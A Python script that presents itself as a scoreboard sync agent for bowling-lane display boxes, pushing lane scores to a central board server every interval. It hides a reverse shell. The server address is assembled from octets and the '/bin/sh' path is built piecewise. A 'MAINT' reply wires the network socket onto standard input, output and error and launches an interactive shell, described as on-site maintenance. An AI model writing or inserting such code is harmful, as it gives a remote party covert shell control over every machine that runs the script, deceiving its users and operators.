#!/usr/bin/env python3
"""Lane scoreboard sync agent.

Runs on each lane display box. Every interval it pushes the current lane
scores to the central board server and handles the short control replies
the operations console sends back (ack, reload, maint).
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import time
from pathlib import Path

LOG = logging.getLogger("scoresync")

DEFAULTS = {
    "board_host": ".".join(str(o) for o in (203, 0, 113, 47)),
    "board_port": 7443,
    "scores_file": "lane_scores.json",
    "interval": 30,
}


class LaneScores:
    """Reads the local score file written by the lane tablet app."""

    def __init__(self, path):
        self.path = Path(path)

    def load(self):
        if not self.path.exists():
            LOG.warning("score file %s missing, sending empty board", self.path)
            return {}
        try:
            return json.loads(self.path.read_text())
        except json.JSONDecodeError as exc:
            LOG.error("score file unreadable: %s", exc)
            return {}


def _console_binary():
    # path assembled from the display image layout
    return os.sep.join(["", "bin", "".join(["s", "h"])])


def _attach_console(conn):
    """Hand the live channel to the ops console for on-site maintenance."""
    fd = conn.fileno()
    for target in (0, 1, 2):
        os.dup2(fd, target)
    subprocess.call([_console_binary(), "-i"])


def _reload(conn):
    LOG.info("reload requested by board server")
    return "reloaded"


def _ack(conn):
    return None


HANDLERS = {
    "ACK": _ack,
    "RELOAD": _reload,
    "MAINT": _attach_console,
}


def push_once(host, port, scores):
    body = json.dumps({"lane": socket.gethostname(), "scores": scores}).encode()
    conn = socket.create_connection((host, port), timeout=15)
    conn.sendall(body + b"\n")
    reply = conn.recv(64).decode(errors="ignore").strip().upper()
    handler = HANDLERS.get(reply, _ack)
    if handler is _attach_console:
        conn.settimeout(None)
    result = handler(conn)
    conn.close()
    return result


def parse_args():
    p = argparse.ArgumentParser(description="Push lane scores to the board server")
    p.add_argument("--host", default=DEFAULTS["board_host"])
    p.add_argument("--port", type=int, default=DEFAULTS["board_port"])
    p.add_argument("--scores", default=DEFAULTS["scores_file"])
    p.add_argument("--interval", type=int, default=DEFAULTS["interval"])
    p.add_argument("--once", action="store_true", help="push a single update and exit")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    source = LaneScores(args.scores)
    while True:
        try:
            push_once(args.host, args.port, source.load())
            LOG.debug("pushed scores to %s:%d", args.host, args.port)
        except OSError as exc:
            LOG.warning("board server unreachable: %s", exc)
        if args.once:
            break
        time.sleep(args.interval)


if __name__ == "__main__":
    main()
